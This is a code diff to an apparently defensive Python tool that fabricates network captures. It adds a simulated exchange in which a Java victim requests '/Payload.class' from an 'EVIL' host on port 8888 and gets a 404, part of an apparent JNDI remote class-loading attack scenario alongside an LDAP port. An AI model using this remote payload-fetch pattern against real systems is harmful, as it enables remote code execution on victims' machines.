@@ -114,6 +114,12 @@ class Tale(w.Capture):
         self.between(client, server).tcp(port, [("c", request.encode()), ("s", answer.encode())])
         self.wait(0.1)
 
+    def missing(self, client=VICTIM, server=EVIL, port=8888, path="/Payload.class"):
+        """A class is asked for that is not there."""
+        request = "GET %s HTTP/1.1\r\nUser-Agent: Java/17.0.15\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n" % (path, server, port)
+        self.between(client, server).tcp(port, [("c", request.encode()), ("s", b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")])
+        self.wait(0.1)
+
     def browse(self, client=VICTIM, server=EVIL, port=1389):
         """An analyst's wget: another protocol at that place."""
         self.between(client, server).tcp(port, [("c", b"GET / HTTP/1.1\r\nUser-Agent: Wget/1.21\r\nHost: x\r\n\r\n"),
